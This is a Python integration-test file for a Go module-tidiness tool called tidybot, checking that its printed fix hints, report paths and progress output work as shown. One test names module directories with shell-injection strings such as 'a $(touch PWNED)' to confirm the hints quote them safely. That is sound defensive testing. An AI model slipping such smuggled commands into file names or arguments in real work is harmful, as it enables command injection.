"""What `tidybot check|fix|verify` prints, as a user runs it: hints that work when pasted where
the command ran, paths GitHub can attach, progress while modules run, long errors condensed,
and the small things a first run trips over. Real go, real git, subprocesses."""

from __future__ import annotations

import http.server
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.fakes.goproxy import write_tree
from tests.integration.engine_helpers import (
    MAIN_GO,
    go,
    module,
    snapshot,
    tidy,
    tidy_module,
    tidybot,
)
from tests.integration.test_action_harness import git

GREET_GO = 'package {name}\n\nimport "example.com/greet"\n\nvar X = greet.Hello()\n'


def _repo_with_every_kind_of_drift(root: Path, env: dict[str, str]) -> None:
    """A repository with tidy drift (tools), go.work drift (svc/a) and vendor drift (vend)."""
    write_tree(
        root,
        {
            "go.work": "go 1.22\n\nuse (\n\t./svc/a\n\t./svc/b\n)\n",
            "svc/a/go.mod": "module example.com/a\n\ngo 1.22\n\nrequire example.com/greet v1.0.0\n",
            "svc/a/a.go": GREET_GO.format(name="a"),
            "svc/b/go.mod": "module example.com/b\n\ngo 1.22\n\nrequire example.com/greet v1.1.0\n",
            "svc/b/b.go": GREET_GO.format(name="b"),
            "tools/go.mod": "module example.com/tools\n\ngo 1.22\n",
            "tools/main.go": MAIN_GO,
            "vend/go.mod": "module example.com/vend\n\ngo 1.22\n",
            "vend/main.go": MAIN_GO,
        },
    )
    for d in ("svc/a", "svc/b", "vend"):
        tidy(env, root / d)
    assert go(env, root / "vend", "mod", "vendor").returncode == 0
    vendored = root / "vend/vendor/example.com/greet/greet.go"
    vendored.write_text(vendored.read_text() + "\n// edited by hand\n")


def _hint(stdout: str) -> list[str]:
    lines = stdout.splitlines()
    start = next(i for i, ln in enumerate(lines) if ln.startswith("to fix"))
    return lines[start:]


def _run_hint(line: str, cwd: Path, env: dict[str, str]) -> None:
    """One printed command, pasted into a shell where tidybot ran."""
    ran = subprocess.run(["bash", "-c", line], cwd=cwd, env=env, capture_output=True, text=True)
    assert ran.returncode == 0, (line, ran.stdout + ran.stderr)


def test_fix_hints_paste_where_the_command_ran_one_per_kind(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    """Run from the parent of the checkout: every command names its directory from there, and
    running them as printed (a user's go: workspace mode on) leaves every module tidy."""
    repo = tmp_path / "repos" / "r"
    _repo_with_every_kind_of_drift(repo, goenv)
    res = tidybot(goenv, "check", "repos/r", cwd=tmp_path)
    assert res.returncode == 1, res.stdout + res.stderr
    assert _hint(res.stdout) == [
        "to fix, run here:",
        '    GOWORK="$PWD"/repos/r/go.work go work sync && go -C repos/r/svc/a mod tidy',
        "    go -C repos/r/tools mod tidy",
        "    GOWORK=off go -C repos/r/vend mod vendor",
        "or all at once: tidybot fix repos/r",
    ]
    user_env = {k: v for k, v in goenv.items() if k != "GOWORK"}  # go.work is in use for them
    for line in _hint(res.stdout)[1:-1]:
        ran = subprocess.run(
            ["bash", "-c", line.strip()], cwd=tmp_path, env=user_env, capture_output=True, text=True
        )
        assert ran.returncode == 0, (line, ran.stderr)
    again = tidybot(goenv, "check", "repos/r", cwd=tmp_path)
    assert again.returncode == 0, again.stdout
    assert "to fix" not in again.stdout


def test_workspace_hints_work_where_gowork_is_off(tmp_path: Path, goenv: dict[str, str]) -> None:
    """With GOWORK=off in the environment (common in CI; tidybot still finds and checks the
    go.work), the printed `go -C ws/a work sync` failed: "go: no go.work file found". The hint
    names the go.work in GOWORK, as an absolute path (go takes no other) made where it is
    pasted."""
    ws = tmp_path / "my ws"
    write_tree(
        ws,
        {
            "go.work": "go 1.22\n\nuse (\n\t./a\n\t./b\n)\n",
            "a/go.mod": "module example.com/a\n\ngo 1.22\n\nrequire example.com/greet v1.0.0\n",
            "a/a.go": GREET_GO.format(name="a"),
            "b/go.mod": "module example.com/b\n\ngo 1.22\n\nrequire example.com/greet v1.1.0\n",
            "b/b.go": GREET_GO.format(name="b"),
        },
    )
    for d in ("a", "b"):
        tidy(goenv, ws / d)
    assert goenv["GOWORK"] == "off"  # as the user's shell has it
    res = tidybot(goenv, "check", "-q", "my ws", cwd=tmp_path)
    assert res.returncode == 1, res.stdout + res.stderr
    hint = _hint(res.stdout)[0]
    assert (
        hint == "to fix: GOWORK=\"$PWD\"/'my ws/go.work' go work sync && go -C 'my ws/a' mod tidy"
    )
    _run_hint(hint.removeprefix("to fix: "), tmp_path, goenv)
    again = tidybot(goenv, "check", "-q", "my ws", cwd=tmp_path)
    assert again.returncode == 0, again.stdout + again.stderr
    # from inside the workspace, and with the checked directory given as an absolute path
    (ws / "a" / "go.mod").write_text(
        "module example.com/a\n\ngo 1.22\n\nrequire example.com/greet v1.0.0\n"
    )
    inside = _hint(tidybot(goenv, "check", "-q", cwd=ws).stdout)[0]
    assert inside == 'to fix: GOWORK="$PWD"/go.work go work sync && go -C a mod tidy'
    absolute = _hint(tidybot(goenv, "check", "-q", str(ws), cwd=tmp_path).stdout)[0]
    quoted = shlex.quote(str(ws / "go.work"))
    assert absolute.startswith(f"to fix: GOWORK={quoted} go work sync && go -C "), absolute
    _run_hint(absolute.removeprefix("to fix: "), ws / "b", goenv)
    assert tidybot(goenv, "check", "-q", "my ws", cwd=tmp_path).returncode == 0


@pytest.mark.parametrize("vendored", [False, True])
def test_hints_tidy_in_the_fix_order_and_follow_a_module_to_what_reads_it(
    tmp_path: Path, goenv: dict[str, str], vendored: bool
) -> None:
    """``a`` replaces ``b`` locally and is tidy; ``b`` imports a package of greet v1.1.0 that
    it does not require. The hint said only ``go -C repo/b mod tidy``, after which ``a``
    drifts (b's new requirement raises greet in a's build); tidybot fix tidies b, then a
    (and vendors a again, when it is vendored). The hint now names both, b first, and
    pasting it leaves what the fix leaves. ``c`` replaces b too, and reads a package of it
    that imports nothing: tidied again all the same (which modules move is go's to say);
    the tidy ones that take the same steps share one loop."""
    root = tmp_path / "repo"
    write_tree(
        root,
        {
            "a/go.mod": "module example.com/a\n\ngo 1.22\n\nrequire (\n\texample.com/b v0.0.0\n"
            "\texample.com/greet v1.0.0\n)\n\nreplace example.com/b => ../b\n",
            "a/a.go": 'package a\n\nimport (\n\t"example.com/b"\n\t"example.com/greet"\n)\n\n'
            "var _ = b.X + greet.Hello()\n",
            "b/go.mod": "module example.com/b\n\ngo 1.22\n",
            "b/b.go": 'package b\n\nconst X = ""\n',
            "b/util/util.go": 'package util\n\nconst Y = ""\n',
            "c/go.mod": "module example.com/c\n\ngo 1.22\n\nrequire example.com/b v0.0.0\n\n"
            "replace example.com/b => ../b\n",
            "c/c.go": 'package c\n\nimport "example.com/b/util"\n\nvar _ = util.Y\n',
        },
    )
    tidy(goenv, root / "a")
    tidy(goenv, root / "c")
    if vendored:
        assert go(goenv, root / "a", "mod", "vendor").returncode == 0
    (root / "b" / "b.go").write_text(
        'package b\n\nimport "example.com/greet"\n\nvar X = greet.Bye()\n'  # v1.1.0's
    )
    fixed = tmp_path / "fixed"
    shutil.copytree(root, fixed)
    res = tidybot(goenv, "check", "repo", cwd=tmp_path)
    assert res.returncode == 1, res.stdout + res.stderr
    # a is tidy now (its vendor/ copy of b is not): only the fix of b moves it
    assert ("DRIFT   repo/a" if vendored else "ok      repo/a") in res.stdout
    assert "ok      repo/c" in res.stdout
    followers = (
        [
            "    go -C repo/a mod tidy && GOWORK=off go -C repo/a mod vendor",
            "    go -C repo/c mod tidy",
        ]
        if vendored
        else ['    for d in repo/a repo/c; do go -C "$d" mod tidy; done']
    )
    assert _hint(res.stdout) == [
        "to fix, run here:",
        "    go -C repo/b mod tidy",
        *followers,
        "or all at once: tidybot fix repo",
    ]
    for line in _hint(res.stdout)[1:-1]:
        _run_hint(line.strip(), tmp_path, goenv)
    again = tidybot(goenv, "check", "repo", cwd=tmp_path)
    assert again.returncode == 0, again.stdout + again.stderr
    assert tidybot(goenv, "fix", str(fixed)).returncode == 0
    assert snapshot(root) == snapshot(fixed)


def test_a_follow_loop_pastes_safely_for_any_module_directory(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    """The directories in a hint's ``for d in ...`` line are the tree's: named to break out of
    the loop or run a command, each stays one shell word, and pasting the hint runs no more
    than go."""
    root = tmp_path / "repo"
    names = ["a $(touch PWNED)", "b'; touch PWNED; '", 'c";touch PWNED;"']
    files = {
        "lib/go.mod": "module example.com/lib\n\ngo 1.22\n",
        "lib/lib.go": 'package lib\n\nimport "example.com/greet"\n\nvar X = greet.Hello()\n',
        "lib/util/util.go": 'package util\n\nconst Y = ""\n',
    }
    for i, d in enumerate(names):
        files[f"{d}/go.mod"] = (
            f"module example.com/d{i}\n\ngo 1.22\n\nrequire example.com/lib v0.0.0\n\n"
            "replace example.com/lib => ../lib\n"
        )
        files[f"{d}/d.go"] = f'package d{i}\n\nimport "example.com/lib/util"\n\nvar _ = util.Y\n'
    write_tree(root, files)
    for d in names:
        tidy(goenv, root / d)
    res = tidybot(goenv, "check", "repo", cwd=tmp_path)
    assert res.returncode == 1, res.stdout + res.stderr
    hint = _hint(res.stdout)
    assert hint[1] == "    go -C repo/lib mod tidy"
    assert hint[2].startswith("    for d in ") and hint[2].endswith(
        '; do go -C "$d" mod tidy; done'
    )
    for line in hint[1:-1]:
        _run_hint(line.strip(), tmp_path, goenv)
    assert not list(tmp_path.rglob("PWNED"))
    assert tidybot(goenv, "check", "repo", cwd=tmp_path).returncode == 0


def test_one_drifted_module_hint_and_the_tidybot_alternative(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    d = module(tmp_path, "my repo/app", "example.com/app", {"main.go": MAIN_GO})
    res = tidybot(goenv, "check", "my repo", cwd=tmp_path)
    assert res.returncode == 1
    assert _hint(res.stdout) == [
        "to fix: go -C 'my repo/app' mod tidy",
        "    or: tidybot fix 'my repo'",
    ]
    ran = subprocess.run(
        ["bash", "-c", _hint(res.stdout)[0].removeprefix("to fix: ")],
        cwd=tmp_path,
        env=goenv,
        capture_output=True,
        text=True,
    )
    assert ran.returncode == 0, ran.stderr
    assert "example.com/greet" in (d / "go.mod").read_text()
    # from inside the module: no -C at all
    (d / "go.mod").write_text("module example.com/app\n\ngo 1.22\n")
    assert _hint(tidybot(goenv, "check", cwd=d).stdout)[0] == "to fix: go mod tidy"


def _paste_alternative(
    alt: str, cwd: Path, goenv: dict[str, str]
) -> subprocess.CompletedProcess[str]:
    """The report's ``    or: tidybot fix ...`` line run by a shell in ``cwd``, as pasted
    (``tidybot`` being this checkout's)."""
    line = alt.removeprefix("    or: ").replace(
        "tidybot", f"{shlex.quote(sys.executable)} -m bot", 1
    )
    return subprocess.run(
        ["bash", "-c", line],
        cwd=cwd,
        env=dict(goenv, PYTHONPATH=str(Path(__file__).resolve().parents[2])),
        capture_output=True,
        text=True,
    )


def test_the_tidybot_alternative_fixes_the_modules_the_check_chose(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    """The suggested ``tidybot fix`` dropped --include/--exclude/--since: pasted, it fixed
    every module of the tree, not the ones the report was about."""
    for d in ("svc/a", "svc/b", "tools"):
        module(tmp_path, d, f"example.com/{d.replace('/', '-')}", {"main.go": MAIN_GO})
    res = tidybot(goenv, "check", "--include", "svc/**", "--exclude", "svc/b", cwd=tmp_path)
    assert res.returncode == 1
    alt = _hint(res.stdout)[-1]
    assert alt == "    or: tidybot fix --include 'svc/**' --exclude svc/b", res.stdout
    ran = _paste_alternative(alt, tmp_path, goenv)
    assert ran.returncode == 0, ran.stdout + ran.stderr
    fixed = [
        d for d in ("svc/a", "svc/b", "tools") if "greet" in (tmp_path / d / "go.mod").read_text()
    ]
    assert fixed == ["svc/a"]


def test_the_tidybot_alternative_keeps_the_config_and_the_toolchain(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    """The suggested ``tidybot fix`` dropped --config and --gotoolchain: pasted, it fixed
    without the config's go line and worked on the modules that config excludes (one of them
    a go.mod that does not parse: exit 2)."""
    repo = tmp_path / "repo"
    module(repo, "good", "example.com/good", {"good.go": "package good\n"})
    module(repo, "newgo", "example.com/newgo", {"main.go": MAIN_GO})
    write_tree(repo, {"badsyntax/go.mod": "module example.com/bad\n\ngo 1.22\nrequire (\n"})
    (tmp_path / "my cfg.yml").write_text(
        'modules:\n  good:\n    go: "1.23"\nexclude: [badsyntax, newgo]\n'
    )
    newgo_before = (repo / "newgo" / "go.mod").read_text()
    check = ["check", "-q", "repo", "--config", "my cfg.yml", "--gotoolchain", "local"]
    res = tidybot(goenv, *check, cwd=tmp_path)
    assert res.returncode == 1, res.stdout + res.stderr
    alt = _hint(res.stdout)[-1]
    assert alt == "    or: tidybot fix repo --config 'my cfg.yml' --gotoolchain local", res.stdout
    ran = _paste_alternative(alt, tmp_path, goenv)
    assert ran.returncode == 0, ran.stdout + ran.stderr
    assert (repo / "newgo" / "go.mod").read_text() == newgo_before
    again = tidybot(goenv, *check, cwd=tmp_path)
    assert again.returncode == 0, again.stdout + again.stderr


def test_go_fix_commands_carry_the_configs_tidy_flags(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    """The config's modules.<glob>.go / .e are flags of tidybot's go mod tidy; the printed go
    commands left them out, so a pasted `go mod tidy` left the go line drift (no -go=1.23) or
    failed on a package that cannot be found (no -e)."""
    repo = tmp_path / "repo"
    module(repo, "good", "example.com/good", {"good.go": "package good\n"})
    missing = 'package e\n\nimport _ "example.com/missing/pkg"\n\nimport "example.com/greet"\n'
    module(repo, "e", "example.com/e", {"e.go": missing + "\nvar X = greet.Hello()\n"})
    write_tree(
        repo, {".github/tidybot.yml": 'modules:\n  good:\n    go: "1.23"\n  e:\n    e: true\n'}
    )
    res = tidybot(goenv, "check", "-q", "repo", cwd=tmp_path)
    assert res.returncode == 1, res.stdout + res.stderr
    assert (
        "repo/good/go.mod:3: warning[go-directive] go line: 1.22 -> 1.23\n"
        "        why: the config asks for go 1.23: modules.good.go in .github/tidybot.yml:2\n"
    ) in res.stdout
    assert _hint(res.stdout) == [
        "to fix, run here:",
        "    go -C repo/e mod tidy -e",
        "    go -C repo/good mod tidy -go=1.23",
        "or all at once: tidybot fix repo",
    ]
    for line in _hint(res.stdout)[1:-1]:
        _run_hint(line.strip(), tmp_path, goenv)
    again = tidybot(goenv, "check", "-q", "repo", cwd=tmp_path)
    assert again.returncode == 0, again.stdout + again.stderr


def test_gos_own_hint_in_an_error_runs_where_tidybot_ran(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    """go suggests a command for the module's directory (``go mod edit -module=...``); printed
    as go wrote it, it failed where the reader pasted it ("cannot find main module")."""
    (tmp_path / "c").mkdir()
    (tmp_path / "c" / "go.mod").write_text("go 1.22\n")
    res = tidybot(goenv, "check", cwd=tmp_path)
    assert res.returncode == 2
    hinted = [ln.strip() for ln in res.stdout.splitlines() if "mod edit -module" in ln]
    assert hinted == ["go -C c mod edit -module=example.com/mod"], res.stdout
    ran = subprocess.run(
        ["bash", "-c", hinted[0]], cwd=tmp_path, env=goenv, capture_output=True, text=True
    )
    assert ran.returncode == 0, ran.stderr
    assert "module example.com/mod" in (tmp_path / "c" / "go.mod").read_text()


def test_github_paths_are_relative_to_the_repository_top_level(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    repo = tmp_path / "repos" / "r"
    module(repo, "contrib/config/etcd", "example.com/etcd", {"main.go": MAIN_GO})
    git(repo, "init", "-q")
    res = tidybot(goenv, "check", "repos/r/contrib/config", "--format", "github", cwd=tmp_path)
    assert res.returncode == 1
    assert "::error file=contrib/config/etcd/go.mod,title=tidybot missing-require::" in res.stdout

    sarif = json.loads(
        tidybot(goenv, "check", str(repo / "contrib/config"), "--format", "sarif").stdout
    )
    run = sarif["runs"][0]
    assert run["originalUriBaseIds"]["%SRCROOT%"]["uri"] == repo.resolve().as_uri() + "/"
    loc = run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]
    assert loc == {"uri": "contrib/config/etcd/go.mod", "uriBaseId": "%SRCROOT%"}
    rules = {r["id"]: r for r in run["tool"]["driver"]["rules"]}
    assert rules["missing-require"]["helpUri"].endswith("/README.md#finding-missing-require")

    md = tidybot(goenv, "check", "contrib", "--format", "markdown", cwd=repo).stdout
    assert "| `contrib/config/etcd` (example\\.com/etcd) |" in md
    assert "go -C contrib/config/etcd mod tidy" in md

    doc = json.loads(tidybot(goenv, "check", "contrib", "--format", "json", cwd=repo).stdout)
    assert doc["root_in_repository"] == "contrib"
    assert doc["modules"][0]["findings"][0]["file"] == "config/etcd/go.mod"


def test_without_git_the_github_workspace_is_the_base(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    ws = tmp_path / "ws"
    module(ws, "sub/app", "example.com/app", {"main.go": MAIN_GO})
    env = dict(goenv, GITHUB_WORKSPACE=str(ws))
    res = tidybot(env, "check", str(ws / "sub"), "--format", "github", "-q")
    assert "::error file=sub/app/go.mod," in res.stdout
    outside = tidybot(goenv, "check", str(ws / "sub"), "--format", "github", "-q")
    assert "::error file=app/go.mod," in outside.stdout  # no repository: the checked directory


# -- progress ----------------------------------------------------------------------------------


def _slow_go(tmp_path: Path, slow_dir: str, seconds: float) -> Path:
    """A go that takes ``seconds`` longer in the module directory ``slow_dir``."""
    real = subprocess.run(["go", "env", "GOROOT"], capture_output=True, text=True, check=True)
    wrapper = tmp_path / "bin" / "go"
    wrapper.parent.mkdir()
    wrapper.write_text(
        "#!/bin/sh\n"
        f'case "$PWD" in */{slow_dir}) sleep {seconds};; esac\n'
        f'exec {shlex.quote(real.stdout.strip())}/bin/go "$@"\n'
    )
    wrapper.chmod(0o755)
    return wrapper


def _timestamped(
    cmd: list[str], env: dict[str, str], cwd: Path
) -> tuple[list[tuple[float, str]], str, int]:
    """Run ``cmd``: its stderr lines with the time each arrived, its stdout, its exit code."""
    start = time.monotonic()
    out: list[str] = []
    lines = []
    with subprocess.Popen(
        cmd, env=env, cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    ) as proc:
        assert proc.stdout is not None and proc.stderr is not None
        stdout = proc.stdout
        reader = threading.Thread(target=lambda: out.append(stdout.read()))
        reader.start()
        for line in proc.stderr:
            lines.append((time.monotonic() - start, line.rstrip("\n")))
        code = proc.wait()
        reader.join()
    return lines, out[0], code


def test_progress_streams_each_module_as_it_finishes(tmp_path: Path, goenv: dict[str, str]) -> None:
    repo = tmp_path / "repo"
    for name in ("a", "b", "slow"):
        tidy_module(goenv, repo, name, f"example.com/{name}", {"main.go": MAIN_GO})
    (repo / "a/go.mod").write_text(
        (repo / "a/go.mod").read_text() + "require example.com/x v1.0.0\n"
    )
    env = dict(goenv, TIDYBOT_GO=str(_slow_go(tmp_path, "slow", 6)))
    lines, stdout, code = _timestamped(
        [sys.executable, "-m", "bot", "check", "repo", "-j", "3"], env, tmp_path
    )
    assert code == 1
    when = {m[1]: t for t, ln in lines if (m := re.match(r"tidybot: \[\d/3\] \S+ +(\S+)", ln))}
    assert set(when) == {"repo/a", "repo/b", "repo/slow"}, lines
    # the fast modules are told about at once, the slow one when it is done
    assert when["repo/slow"] - max(when["repo/a"], when["repo/b"]) > 3, lines
    texts = [ln for _, ln in lines]
    assert any(
        re.match(r"tidybot: \[\d/3\] DRIFT   repo/a \(example.com/a\): \d findings", t)
        for t in texts
    )
    # the report itself: stdout, in directory order, after all of it
    heads = [ln.split()[1] for ln in stdout.splitlines() if ln[:1] in ("o", "D")]
    assert heads == ["repo/a", "repo/b", "repo/slow"]


def test_progress_in_github_actions_is_a_group_then_counts(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    tidy_module(goenv, tmp_path, "a", "example.com/a", {"main.go": MAIN_GO})
    tidy_module(goenv, tmp_path, "b", "example.com/b", {"main.go": MAIN_GO})
    res = tidybot(dict(goenv, GITHUB_ACTIONS="true"), "check", str(tmp_path))
    err = res.stderr.splitlines()
    assert err[0] == "::group::tidybot: checking 2 modules"
    assert err[-2] == "::endgroup::"
    assert re.fullmatch(
        r"tidybot: 2/2 modules: 2 ok, 0 drifted, 0 error, 0 skipped \(\d+s\)", err[-1]
    )
    assert len([ln for ln in err if ln.startswith("tidybot: [")]) == 2


def test_quiet_prints_nothing_on_stderr_and_verbose_every_module(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    tidy_module(goenv, tmp_path, "a", "example.com/a", {"main.go": MAIN_GO})
    quiet = tidybot(goenv, "check", str(tmp_path), "--quiet")
    assert (quiet.returncode, quiet.stderr) == (0, "")
    loud = tidybot(goenv, "check", str(tmp_path), "-v")
    assert "tidybot: [1/1] ok" in loud.stderr
    both = tidybot(goenv, "check", str(tmp_path), "-q", "-v")
    assert both.returncode == 2 and "not allowed with" in both.stderr


# -- repetition --------------------------------------------------------------------------------


class _Forbidden(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(403)
        self.end_headers()
        self.wfile.write(b"This module version is not available\n")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def forbidding_proxy() -> Iterator[str]:
    """A module proxy that answers 403 Forbidden to everything."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Forbidden)
    t = threading.Thread(target=server.serve_forever, daemon=True)
    t.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def test_the_same_cause_is_told_once(
    tmp_path: Path, goenv: dict[str, str], forbidding_proxy: str
) -> None:
    imports = "".join(f'\t_ "example.org/dep{i}/pkg"\n' for i in range(15))
    module(tmp_path, "m", "example.com/m", {"m.go": f"package m\n\nimport (\n{imports})\n"})
    module(tmp_path, "n", "example.com/n", {"n.go": f"package n\n\nimport (\n{imports})\n"})
    env = dict(goenv, GOPROXY=forbidding_proxy, GOFLAGS="-mod=mod")
    res = tidybot(env, "check", str(tmp_path), "-q")
    assert res.returncode == 2
    out = res.stdout.splitlines()
    assert len(out) <= 12, res.stdout
    assert sum("403 Forbidden" in ln for ln in out) == 1, res.stdout
    assert "    … and 14 more with the same cause (example.org/dep1/pkg, " in res.stdout
    assert re.search(r"^    the same error as .*/m$", res.stdout, re.M)  # n: told once
    full = tidybot(env, "check", str(tmp_path), "--verbose")
    assert sum("403 Forbidden" in ln for ln in full.stdout.splitlines()) == 30


def test_since_skips_are_one_line(tmp_path: Path, goenv: dict[str, str]) -> None:
    for i in range(6):
        tidy_module(goenv, tmp_path, f"m{i}", f"example.com/m{i}", {"main.go": MAIN_GO})
    git(tmp_path, "init", "-q")
    git(tmp_path, "add", "-A")
    git(tmp_path, "commit", "-q", "-m", "modules")
    (tmp_path / "m0" / "extra.go").write_text("package main\n")
    res = tidybot(goenv, "check", str(tmp_path), "--since", "HEAD", "-q")
    assert res.returncode == 0, res.stdout + res.stderr
    lines = res.stdout.splitlines()
    assert (
        "skipped 5 modules not affected by the changes since HEAD (--verbose lists them)" in lines
    )
    assert not any(ln.startswith("skipped ") and "/m1" in ln for ln in lines)
    verbose = tidybot(goenv, "check", str(tmp_path), "--since", "HEAD", "-v").stdout
    assert sum(ln.startswith("skipped ") for ln in verbose.splitlines()) == 5
    doc = json.loads(
        tidybot(goenv, "check", str(tmp_path), "--since", "HEAD", "--format", "json").stdout
    )
    assert sum(m["status"] == "skipped" for m in doc["modules"]) == 5


# -- small defects -----------------------------------------------------------------------------


def _recording_go(tmp_path: Path) -> tuple[Path, Path]:
    log = tmp_path / "go-calls.log"
    real = subprocess.run(["go", "env", "GOROOT"], capture_output=True, text=True, check=True)
    wrapper = tmp_path / "bin" / "go"
    wrapper.parent.mkdir(exist_ok=True)
    wrapper.write_text(
        f'#!/bin/sh\necho "$@" >> {shlex.quote(str(log))}\n'
        f'exec {shlex.quote(real.stdout.strip())}/bin/go "$@"\n'
    )
    wrapper.chmod(0o755)
    return wrapper, log


def test_output_to_a_missing_directory_fails_before_the_check(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    tidy_module(goenv, tmp_path, ".", "example.com/app", {"main.go": MAIN_GO})
    wrapper, log = _recording_go(tmp_path)
    env = dict(goenv, TIDYBOT_GO=str(wrapper))
    res = tidybot(env, "check", str(tmp_path), "-o", str(tmp_path / "nope" / "x.json"))
    assert res.returncode == 2
    assert res.stderr.startswith("tidybot: error: -o ")
    assert "nope does not exist" in res.stderr
    assert not log.exists()  # no go ran
    res = tidybot(env, "verify", str(tmp_path), "-o", str(tmp_path))
    assert res.returncode == 2 and "is a directory" in res.stderr


def test_tidybot_go_that_does_not_exist_is_named(tmp_path: Path, goenv: dict[str, str]) -> None:
    module(tmp_path, ".", "example.com/app", {})
    res = tidybot(dict(goenv, TIDYBOT_GO="/nonexistent/go"), "check", str(tmp_path))
    assert res.returncode == 2
    assert res.stderr.splitlines()[0] == (
        "tidybot: error: the go command /nonexistent/go was not found (TIDYBOT_GO names it)"
    )
    assert "PATH" not in res.stderr.splitlines()[0]


@pytest.mark.parametrize(
    ("kind", "what"),
    [
        ("directory", "is a directory, not the go binary"),
        ("no-x", "is not executable (no execute permission)"),
        ("garbage", "is not a program this system can run (Exec format error)"),
    ],
)
def test_tidybot_go_that_cannot_run_is_named(
    tmp_path: Path, goenv: dict[str, str], kind: str, what: str
) -> None:
    """TIDYBOT_GO naming a directory, a file without x, or bytes no kernel runs: one error
    naming the variable, its value and what is wrong (exit 2), no traceback."""
    module(tmp_path / "repo", ".", "example.com/app", {})
    bad = tmp_path / "bad"
    if kind == "directory":
        bad.mkdir()
    else:
        bad.write_bytes(b"\x00\x01 not a program\n")
        bad.chmod(0o644 if kind == "no-x" else 0o755)
    res = tidybot(dict(goenv, TIDYBOT_GO=str(bad)), "check", "-q", str(tmp_path / "repo"))
    assert res.returncode == 2, res.stderr
    assert res.stderr.splitlines()[0] == f"tidybot: error: TIDYBOT_GO={bad}: {what}"
    assert "Traceback" not in res.stderr and "internal error" not in res.stderr
    assert "hint: point TIDYBOT_GO at the go binary" in res.stderr


@pytest.mark.parametrize("command", ["check", "fix"])
def test_an_empty_since_is_refused_like_an_empty_include(
    tmp_path: Path, goenv: dict[str, str], command: str
) -> None:
    """`--since "$BASE"` with BASE empty (an unset CI variable) silently checked every module;
    it is refused as `--include ''` is, naming --since and the fix, before go runs."""
    module(tmp_path, ".", "example.com/app", {"main.go": MAIN_GO})  # drifted: go.sum missing
    wrapper, log = _recording_go(tmp_path)
    env = dict(goenv, TIDYBOT_GO=str(wrapper))
    for value in ("", " "):
        res = tidybot(env, command, "--since", value, str(tmp_path))
        assert res.returncode == 2, res.stdout + res.stderr
        assert res.stderr.splitlines()[0] == f"tidybot: error: --since {value!r}: empty ref"
        assert "leave --since out" in res.stderr
        assert res.stdout == ""
    empty_include = tidybot(env, command, "--include", "", str(tmp_path))
    assert empty_include.returncode == 2
    assert not log.exists()  # no go ran


def test_a_newer_go_line_names_the_setting_that_chooses_the_toolchain(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    """The advice said "set gotoolchain to auto"; a user who then ran with GOTOOLCHAIN=auto
    (which tidybot deliberately does not read) got the same error. It names the flag and the
    variable that do choose it, and following it changes what happens."""
    module(tmp_path / "repo", "new", "example.com/new", {}, go_line="1.99")
    module(
        tmp_path / "repo",
        "dep",
        "example.com/dep",
        {"main.go": 'package main\n\nimport _ "example.com/newgo"\n\nfunc main() {}\n'},
    )
    (tmp_path / "repo/dep/go.mod").write_text(
        "module example.com/dep\n\ngo 1.22\n\nrequire example.com/newgo v1.0.0\n"
    )
    res = tidybot(
        dict(goenv, GOTOOLCHAIN="auto"), "check", "repo", "--format", "json", cwd=tmp_path
    )
    assert res.returncode == 2, res.stdout + res.stderr
    errors = {m["dir"]: m["error"] for m in json.loads(res.stdout)["modules"]}
    assert errors["new"].endswith(
        "(GOTOOLCHAIN=local); use --gotoolchain auto (or TIDYBOT_GOTOOLCHAIN=auto), or install "
        "Go 1.99.0 or newer"
    )
    assert "example.com/newgo@v1.0.0 requires go >= 1.99" in errors["dep"]
    assert errors["dep"].endswith(
        "install that Go version, or use --gotoolchain auto (or TIDYBOT_GOTOOLCHAIN=auto) (go "
        "fetches it), or pin go1.99 or newer"
    )
    assert not any("set gotoolchain" in e for e in errors.values())
    pinned = tidybot(goenv, "check", "repo/new", "--gotoolchain", "go1.24.0", cwd=tmp_path)
    assert "or pin go1.99.0 or newer" in pinned.stdout
    assert "use --gotoolchain auto (or TIDYBOT_GOTOOLCHAIN=auto)" in pinned.stdout
    for how in (["--gotoolchain", "auto"], []):  # the advice, followed: go now tries to switch
        env = dict(goenv, TIDYBOT_GOTOOLCHAIN="auto") if not how else goenv
        followed = tidybot(env, "check", "repo/new", *how, "--format", "json", cwd=tmp_path)
        (mod,) = json.loads(followed.stdout)["modules"]
        assert "toolchain not available" in mod["error"], mod["error"]


def _repo_of_two_modules(root: Path) -> None:
    module(root, "good", "example.com/good", {"g.go": "package good\n"})
    module(root, "svc/a", "example.com/a", {"a.go": "package a\n"})


def test_an_include_glob_that_matches_no_module_is_named_once(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    """`--include good --include typo` checked good and never mentioned typo. Each glob that
    matches no module gets one note on stderr (however often it is given), saying globs are
    relative to the checked directory; the check and its exit code are as before."""
    _repo_of_two_modules(tmp_path / "repo")
    res = tidybot(
        goenv,
        "check",
        "repo",
        "-v",
        *("--include", "good", "--include", "typo", "--include", "goood", "--include", "typo"),
        cwd=tmp_path,
    )
    assert res.returncode == 0, res.stdout + res.stderr
    notes = [ln for ln in res.stderr.splitlines() if ln.startswith("tidybot: note: ")]
    where = "globs are relative to the checked directory, which holds 2 modules: good, svc/a"
    assert notes == [
        f"tidybot: note: --include typo matches no module; {where}",
        f"tidybot: note: --include goood matches no module; {where}; did you mean --include good?",
    ]
    assert "1 module: 1 clean" in res.stdout
    quiet = tidybot(
        goenv, "check", "repo", "-q", "--include", "good", "--include", "x", cwd=tmp_path
    )
